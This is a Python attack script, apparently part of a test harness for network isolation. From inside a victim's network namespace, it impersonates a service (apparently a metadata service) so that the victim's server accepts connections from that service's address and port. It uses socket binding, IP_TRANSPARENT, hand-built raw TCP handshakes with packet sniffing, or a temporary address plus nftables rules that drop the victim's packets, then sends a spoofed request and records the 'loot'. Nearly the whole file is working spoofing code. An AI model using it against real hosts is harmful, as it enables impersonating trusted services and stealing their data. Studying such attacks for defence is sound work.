"""A process of the victim's network namespace makes a server of the victim accept a connection from the service's address.

The socket of the server then has the addresses and ports that a client's socket has. Then this process opens a connection with
the same pair at the service, by raw packets.

--how bind         binds the address and port of the service, where they are local, and connects. Needs no right
--how transparent  binds them although they are not local (NET_RAW, IP_TRANSPARENT), and connects
--how raw          sends the SYN by a raw socket, reads the SYN-ACK off the link (NET_RAW), and answers it
--how address      gives the namespace the address (NET_ADMIN), connects, removes the address, and keeps the service's packets
                   from the victim
"""

import os
import random
import socket
import struct
import subprocess
import time

from frames import ACK, SYN, Impostor, Loot, Wire, arguments, mac, request_for

told = arguments(
    __doc__,
    (["--how"], dict(required=True, choices=["bind", "transparent", "raw", "address"])),
    (["--port"], dict(type=int, required=True, help="the victim's port")),
    (["--link"], dict(default="imds0", help="the link that leads to the service")),
    (["--stop"], dict(default="")),
    (["--wait"], dict(action="store_true", help="the service is asked once the file of that name and .go exists")),
)
SERVICE = (told.server, told.server_port)
IP_TRANSPARENT = 19
ETH_P_IP, ETH_P_ALL = 0x0800, 0x0003


class Link(Wire):
    """A link without addresses. On the loopback packets are sent by a raw socket, so that the host's rules apply."""

    def __init__(self, interface):
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
        self.socket.bind((interface, ETH_P_IP))
        # Both ends of the link to the service have one MAC.
        self.own_mac = self.gateway_mac = mac(open(f"/sys/class/net/{interface}/address").read().strip())
        self.raw = None
        if interface == "lo":
            self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def frame(self, to, source, kind, payload):
        if self.raw:
            self.raw.sendto(payload, (socket.inet_ntoa(payload[16:20]), 0))
        else:
            super().frame(to, source, kind, payload)


def connects(transparent=False):
    """A connection to the victim's server from the address and port of the service."""
    link = socket.socket()
    link.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    if transparent:
        link.setsockopt(socket.SOL_IP, IP_TRANSPARENT, 1)
    link.settimeout(0.5)
    try:
        link.bind(SERVICE)
        link.connect((told.victim, told.port))
    except OSError as error:
        loot.notes["why"] = str(error)
        return None
    # Kept open.
    return link


def connects_raw():
    """The SYN-ACK is read when it is sent, before the service can answer it with a reset."""
    wire = Link("lo")
    tap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    tap.bind((told.link, ETH_P_ALL))
    tap.settimeout(0.05)
    sequence = random.getrandbits(31)
    here = (*SERVICE, told.victim, told.port)
    send = lambda flags, seq, ack: wire.tcp(here[0], here[2], here[1], here[3], flags, seq, ack)
    send(SYN, sequence, 0)
    try:
        while True:
            packet = tap.recv(2048)[14:]
            if len(packet) < 40 or packet[0] != 0x45 or packet[9] != 6:
                continue
            port, _, seq, ack, _, flags = struct.unpack("!HHIIBB", packet[20:34])
            if (port, ack, flags) == (told.port, sequence + 1, SYN | ACK) and packet[16:20] == socket.inet_aton(told.server):
                send(ACK, sequence + 1, seq + 1)
                loot.notes["answered"] = 1
                return
    except TimeoutError:
        return


def connects_with_address():
    subprocess.run(["ip", "addr", "add", f"{told.server}/32", "dev", "lo"], check=True)
    link = connects()
    try:
        # What the victim says first is acknowledged.
        if link:
            link.settimeout(0.3)
            link.recv(8192)
    except TimeoutError:
        pass
    # Before the address goes: a packet of the victim to the service would be answered with a reset.
    rules = f"""table ip quiet {{
        chain in {{
            type filter hook input priority -400
            iifname "{told.link}" tcp dport {told.port} drop
        }}
        chain out {{
            type filter hook output priority -400
            ip daddr {told.server} tcp sport {told.port} drop
        }}
    }}"""
    subprocess.run(["/usr/sbin/nft", "-f", "-"], input=rules.encode(), check=True)
    subprocess.run(["ip", "addr", "del", f"{told.server}/32", "dev", "lo"], check=True)
    return link


loot = Loot(told.role)
loot.tries = 1
kept = {
    "bind": connects,
    "transparent": lambda: connects(transparent=True),
    "raw": connects_raw,
    "address": connects_with_address,
}[told.how]()
loot.notes["connected"] = int(kept is not None)
print("ready", flush=True)
# Long enough for the victim to see its socket.
time.sleep(0.1)
if told.wait:
    end = time.monotonic() + 60
    while not os.path.exists(told.stop + ".go") and time.monotonic() < end:
        time.sleep(0.01)
try:
    wire = Link(told.link)
except PermissionError:
    loot.notes["packets"] = "no right to send any"
else:
    client = Impostor(wire, told.victim, wire.own_mac, told.port, *SERVICE)
    if client.connect(0.6):
        loot.connections += 1
        loot.answer(client.ask(request_for(told.role), 0.6))
    client.reset()
if told.how == "address":
    subprocess.run(["/usr/sbin/nft", "delete", "table", "ip", "quiet"], check=True)
loot.print()
